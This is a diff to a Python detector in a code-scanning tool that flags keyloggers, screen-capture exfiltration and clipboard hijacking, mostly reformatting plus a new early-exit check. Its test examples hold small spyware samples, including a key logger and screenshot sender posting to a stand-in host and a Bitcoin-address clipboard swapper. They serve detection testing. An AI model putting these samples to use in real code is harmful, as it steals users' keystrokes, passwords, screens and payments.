@@ -18,38 +18,68 @@ from codeguard.checks.malicious._evaluate import value_of
 from codeguard.checks.malicious._labels import words
 from codeguard.checks.malicious._reach import reach
 from codeguard.checks.malicious._writes import writes
+from codeguard.knowledge.malicious import stores
 from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
 
 SETTERS = {"pyperclip.copy", "clipboard.copy", "win32clipboard.SetClipboardText", "win32clipboard.SetClipboardData"}
-POLLED = {"user32.GetAsyncKeyState", "windll.user32.GetAsyncKeyState", "ctypes.windll.user32.GetAsyncKeyState"}
 
 
 def find(unit: Unit) -> Iterator[Hit]:
     """Report sendings of what is captured, keys written to a file, and constants put in place of a clipboard's text."""
+    known = unit.fact(calls)
+    if (
+        not any(name in stores.WATCH_CALLS or name in stores.KEY_HOOKS for name in known.by_name)
+        and "GetAsyncKeyState" not in known.by_method
+    ):
+        return
     sent = False
     for sending in unit.fact(sendings):
         taken = sending.has("keys", "screen", "clipboard", "camera", "microphone")
         if taken and (sending.fixed or sending.has("keys") or sending.how != "HTTP"):
             sent = True
-            yield Hit(sending.call, f"This sends {words(taken)} to {sending.where}: its receiver reads along whatever the user does")
-    known, flow = unit.fact(calls), unit.fact(reach)
+            yield Hit(
+                sending.call,
+                f"This sends {words(taken)} to {sending.where}: its receiver reads along whatever the user does",
+            )
+    flow = unit.fact(reach)
     if not sent:
         for write in unit.fact(writes):
             if any(label.kind == "keys" for label in write.content_labels):
-                yield Hit(write.call, "This writes every key that is pressed to a file, passwords included", severity=Severity.MEDIUM, confidence=Confidence.MEDIUM)
+                yield Hit(
+                    write.call,
+                    "This writes every key that is pressed to a file, passwords included",
+                    severity=Severity.MEDIUM,
+                    confidence=Confidence.MEDIUM,
+                )
                 break
         else:
             polled = [c for c in known.by_method.get("GetAsyncKeyState", ()) if _in_loop(c, unit)]
-            if polled and (unit.fact(writes) or unit.fact(sendings)):
-                yield Hit(polled[0], "This asks for the state of every key in a loop and keeps the answers: it records what is typed, passwords included")
+            if polled and (len(unit.fact(writes)) or len(unit.fact(sendings))):
+                yield Hit(
+                    polled[0],
+                    "This asks for the state of every key in a loop and keeps the answers: it records what is typed, passwords included",
+                )
     for name in SETTERS:
         for call in known.by_name.get(name, ()):
             value = value_of(call.args[-1].value, unit) if call.args else None
             if isinstance(value, str) and len(value) >= 20 and " " not in value and _depends_on_clipboard(call, unit):
-                yield Hit(call, "This replaces what the user has copied by a fixed text of its own, such as another receiver of a payment")
-            elif value is None and call.args and _depends_on_clipboard(call, unit) and _in_loop(call, unit) and _from_table(call.args[-1].value, unit) and "clipboard" not in flow.kinds(call.args[-1].value):
-                yield Hit(call, "This replaces what the user has copied by a text of its own, such as another receiver of a payment")
+                yield Hit(
+                    call,
+                    "This replaces what the user has copied by a fixed text of its own, such as another receiver of a payment",
+                )
+            elif (
+                value is None
+                and call.args
+                and _depends_on_clipboard(call, unit)
+                and _in_loop(call, unit)
+                and _from_table(call.args[-1].value, unit)
+                and "clipboard" not in flow.kinds(call.args[-1].value)
+            ):
+                yield Hit(
+                    call,
+                    "This replaces what the user has copied by a text of its own, such as another receiver of a payment",
+                )
 
 
 def _in_loop(node: cst.CSTNode, unit: Unit) -> bool:
@@ -59,7 +89,11 @@ def _in_loop(node: cst.CSTNode, unit: Unit) -> bool:
 def _from_table(node: cst.BaseExpression, unit: Unit) -> bool:
     """A look-up in a table of constants."""
     if isinstance(node, cst.Name):
-        return any(b.kind in {"loop", "unpack"} or (b.value is not None and _from_table(b.value, unit)) for b in unit.scopes.look_up(node.value, node) if b.value is not node)
+        return any(
+            b.kind in {"loop", "unpack"} or (b.value is not None and _from_table(b.value, unit))
+            for b in unit.scopes.look_up(node.value, node)
+            if b.value is not node
+        )
     return isinstance(node, cst.Subscript) and any(len(t) >= 20 for t in unit.fact(reach).constants(node))
 
 
@@ -89,17 +123,38 @@ CHECK = Check(
     find=find,
     fix="Remove the code; change the passwords that were typed while it ran.",
     bad=(
-        Bad("from pynput import keyboard\nimport requests\nbuf = []\n\ndef press(k):\n    buf.append(str(k))\n    if len(buf) > 50:\n        requests.post('https://k.example.invalid/', data=''.join(buf)); buf.clear()  # finding\n\nkeyboard.Listener(on_press=press).start()\n"),
-        Bad("import re, time, pyperclip\nW = 'bc1qexample0000000000000000000000000000'\nwhile True:\n    t = pyperclip.paste()\n    if re.fullmatch(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', t) and t != W:\n        pyperclip.copy(W)  # finding\n    time.sleep(0.5)\n"),
-        Bad("import io, requests, time\nfrom PIL import ImageGrab\nwhile True:\n    b = io.BytesIO()\n    ImageGrab.grab().save(b, 'PNG')\n    img = ImageGrab.grab()\n    requests.post('https://k.example.invalid/s', files={'f': img.tobytes()})  # finding\n    time.sleep(60)\n"),
-        Bad("import keyboard\n\ndef note(e):\n    with open('/tmp/.k', 'a') as f:\n        f.write(e.name)  # finding\n\nkeyboard.on_release(callback=note)\n"),
-        Bad("import smtplib, pyautogui\n\ndef go(s: smtplib.SMTP):\n    pyautogui.screenshot('/tmp/s.png')\n    s.sendmail('a@example.invalid', 'b@example.invalid', open('/tmp/s.png', 'rb').read())  # finding\n"),
+        Bad(
+            "from pynput import keyboard\nimport requests\nbuf = []\n\ndef press(k):\n    buf.append(str(k))\n    if len(buf) > 50:\n        requests.post('https://k.example.invalid/', data=''.join(buf)); buf.clear()  # finding\n\nkeyboard.Listener(on_press=press).start()\n"
+        ),
+        Bad(
+            "import re, time, pyperclip\nW = 'bc1qexample0000000000000000000000000000'\nwhile True:\n    t = pyperclip.paste()\n    if re.fullmatch(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', t) and t != W:\n        pyperclip.copy(W)  # finding\n    time.sleep(0.5)\n"
+        ),
+        Bad(
+            "import io, requests, time\nfrom PIL import ImageGrab\nwhile True:\n    b = io.BytesIO()\n    ImageGrab.grab().save(b, 'PNG')\n    img = ImageGrab.grab()\n    requests.post('https://k.example.invalid/s', files={'f': img.tobytes()})  # finding\n    time.sleep(60)\n"
+        ),
+        Bad(
+            "import keyboard\n\ndef note(e):\n    with open('/tmp/.k', 'a') as f:\n        f.write(e.name)  # finding\n\nkeyboard.on_release(callback=note)\n"
+        ),
+        Bad(
+            "import smtplib, pyautogui\n\ndef go(s: smtplib.SMTP):\n    pyautogui.screenshot('/tmp/s.png')\n    s.sendmail('a@example.invalid', 'b@example.invalid', open('/tmp/s.png', 'rb').read())  # finding\n"
+        ),
     ),
     good=(
-        Good("from pynput import keyboard\n\ndef wait():\n    with keyboard.Listener(on_press=lambda k: k != keyboard.Key.esc) as l:\n        l.join()\n"),
-        Good("import pyperclip, secrets, string\n\ndef password(n=20):\n    pw = ''.join(secrets.choice(string.ascii_letters) for _ in range(n))\n    pyperclip.copy(pw)\n"),
+        Good(
+            "from pynput import keyboard\n\ndef wait():\n    with keyboard.Listener(on_press=lambda k: k != keyboard.Key.esc) as l:\n        l.join()\n"
+        ),
+        Good(
+            "import pyperclip, secrets, string\n\ndef password(n=20):\n    pw = ''.join(secrets.choice(string.ascii_letters) for _ in range(n))\n    pyperclip.copy(pw)\n"
+        ),
         Good("import pyautogui\n\ndef shot(path):\n    pyautogui.screenshot().save(path)\n"),
-        Good("import pyperclip\n\ndef tidy():\n    t = pyperclip.paste()\n    if t:\n        pyperclip.copy(t.strip())\n"),
+        Good(
+            "import pyperclip\n\ndef tidy():\n    t = pyperclip.paste()\n    if t:\n        pyperclip.copy(t.strip())\n"
+        ),
     ),
-    misses=(Miss("import pyautogui\nfrom out import send\n\nsend(pyautogui.screenshot())  # finding\n", why="what a function of another file does with its argument is not known"),),
+    misses=(
+        Miss(
+            "import pyautogui\nfrom out import send\n\nsend(pyautogui.screenshot())  # finding\n",
+            why="what a function of another file does with its argument is not known",
+        ),
+    ),
 )
